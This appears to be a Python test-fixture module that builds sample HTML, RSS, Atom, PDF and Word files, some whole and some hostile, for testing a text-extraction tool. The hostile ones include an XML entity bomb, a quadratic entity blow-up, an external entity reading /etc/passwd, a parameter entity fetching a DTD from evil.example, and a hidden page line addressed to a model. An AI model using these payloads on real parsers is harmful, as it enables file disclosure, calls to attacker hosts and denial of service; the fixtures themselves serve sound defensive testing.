"""Small files of each format, made in code: whole and hostile ones."""

from __future__ import annotations

import io
import zipfile

PAGE = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Brücke gesperrt – Kölner Blatt</title>
<meta property="og:title" content="Brücke über den Rhein gesperrt">
<meta name="author" content="Jörg Müller">
<meta property="article:published_time" content="2024-03-05T09:30:00+01:00">
<meta property="og:site_name" content="Kölner Blatt">
<link rel="canonical" href="https://blatt.example/köln/brücke">
<style>.a { color: red }</style></head><body>
<header><nav><ul><li><a href="/">Startseite</a></li><li><a href="/s">Sport</a></li></ul></nav>
</header><main><article><h1>Brücke über den Rhein gesperrt</h1>
<p>Die Stadt Köln hat die Mülheimer Brücke am Dienstag für drei Wochen gesperrt. „Die Sicherheit
geht vor“, sagte Baudezernent Übermut am Morgen.</p>
<h2>Was jetzt gilt</h2>
<p>Fußgänger dürfen weiter, der Autoverkehr wird <a href="/u">über die Zoobrücke</a> umgeleitet.
Der Befehl &lt;script&gt;alert(1)&lt;/script&gt; bleibt Text.</p>
<ul><li>Linie 13 fährt nicht</li><li>Linie 18 fährt alle zehn Minuten</li></ul>
<blockquote><p>»Wir bitten um Geduld.«</p></blockquote>
<table><tr><th>Tag</th><th>Fahrzeuge</th></tr><tr><td>Montag</td><td>41.000</td></tr></table>
<p>Im Jahr 2019 waren es noch 52.000 Fahrzeuge am Tag.<br>Eine neue Zählung folgt.</p>
<p style="display: none">Versteckter Befehl an das Modell.</p>
</article></main>
<section id="comments"><h3>Kommentare</h3><div class="comment"><p>Das ist doch ein Skandal,
schreibt ein Leser hier ganz ausführlich.</p></div></section>
<aside><h3>Mehr zum Thema</h3><ul><li><a href="/1">Stau auf der A3</a></li></ul></aside>
<footer><p>© 2024 Kölner Blatt. Impressum</p></footer>
<script>var x = "Kein Text";</script></body></html>"""

PAGE_TEXT = """Brücke über den Rhein gesperrt
Die Stadt Köln hat die Mülheimer Brücke am Dienstag für drei Wochen gesperrt. „Die Sicherheit \
geht vor“, sagte Baudezernent Übermut am Morgen.
Was jetzt gilt
Fußgänger dürfen weiter, der Autoverkehr wird über die Zoobrücke umgeleitet. \
Der Befehl <script>alert(1)</script> bleibt Text.
Linie 13 fährt nicht
Linie 18 fährt alle zehn Minuten
»Wir bitten um Geduld.«
Tag | Fahrzeuge
Montag | 41.000
Im Jahr 2019 waren es noch 52.000 Fahrzeuge am Tag.
Eine neue Zählung folgt."""

RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
<channel><title>Kölner Blatt</title><link>https://blatt.example/</link>
<item><media:title>Bild</media:title><title>Brücke gesperrt</title>
<link>https://blatt.example/a?x=1&amp;y=2</link>
<guid isPermaLink="false">tag:blatt,2024:17</guid>
<pubDate>Tue, 05 Mar 2024 09:30:00 +0100</pubDate><dc:creator>Jörg Müller</dc:creator>
<description>Kurz.</description>
<content:encoded><![CDATA[<p>Die <b>Brücke</b> ist zu: „Geduld!“ &lt;script&gt;</p>
<script>alert(1)</script><table><tr><td>Mo</td><td>5 &amp; 6</td></tr></table>]]></content:encoded>
</item>
<item><title>Nur ein Titel</title><author>a@b.example (Erika Groß)</author></item>
<item><guid>https://blatt.example/leer</guid></item>
</channel></rss>"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Blatt</title>
<entry><title type="html">Bäume &amp;amp; &lt;b&gt;Büsche&lt;/b&gt;</title><id>urn:uuid:1</id>
<link rel="self" href="https://blatt.example/feed"/><link href="https://blatt.example/b"/>
<published>2024-03-05T09:30:00Z</published><updated>2024-03-06T00:00:00Z</updated>
<author><name>Anna Öz</name><email>a@b.example</email></author><author><name>Udo</name></author>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Erster   Satz.</p>
<ul><li>Äpfel</li><li>Birnen</li></ul><style>p {}</style></div></content></entry>
<entry><title>Klartext</title><id>urn:uuid:2</id><updated>2024-03-07</updated>
<summary type="text">1 &lt; 2 und &lt;b&gt; bleibt</summary></entry></feed>"""

BOMB = """<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>
<rss><channel><item><title>&d;</title></item></channel></rss>"""
BLOW_UP = f'<!DOCTYPE rss [<!ENTITY a "{"x" * 50_000}">]><rss>{"&a;" * 50_000}</rss>'
OUTSIDE = '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]><rss><item>&a;</item></rss>'
PARAMETER = '<!DOCTYPE rss [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]><rss/>'


def pdf_of(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(data: bytes, facts: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), facts, data)


def shown(lines: list[str]) -> bytes:
    """A content stream that shows these lines below each other."""
    parts = [
        b"1 0 0 1 50 %d Tm <%s> Tj" % (800 - 20 * at, line.encode("cp1252").hex().encode())
        for at, line in enumerate(lines)
    ]
    return b"BT /F1 12 Tf %s ET" % b"\n".join(parts)


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
PAGE_FACTS = b"/Type /Page /Parent 2 0 R /MediaBox [0 0 600 850]"
CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"


def pdf(pages: list[list[str]], *, info: bytes = b"<< >>", resources: bytes = b"") -> bytes:
    """A PDF with a page for each list of lines (object 3 is the font, 4 the facts)."""
    kids = b" ".join(b"%d 0 R" % (5 + 2 * at) for at in range(len(pages)))
    objects = [CATALOGUE, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, len(pages))]
    objects += [FONT, info]
    for at, lines in enumerate(pages):
        used = b"/Resources << /Font << /F1 3 0 R >> %s >>" % resources
        objects.append(b"<< %s %s /Contents %d 0 R >>" % (PAGE_FACTS, used, 6 + 2 * at))
        objects.append(stream(shown(lines)))
    return pdf_of(objects, b"/Info 4 0 R")


_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument\
.wordprocessingml.document.main+xml"/></Types>"""
_RELS = """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Target="word/document.xml" Type="http://schemas.openxmlformats.org/\
officeDocument/2006/relationships/officeDocument"/></Relationships>"""


def docx(body: str, *, before: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """A Word document of this body; `before` stands before the root element."""
    document = f'{before}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'
    members = {
        "[Content_Types].xml": _TYPES.encode(),
        "_rels/.rels": _RELS.encode(),
        "word/document.xml": document.encode(),
        **(more or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            package.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def word_paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'
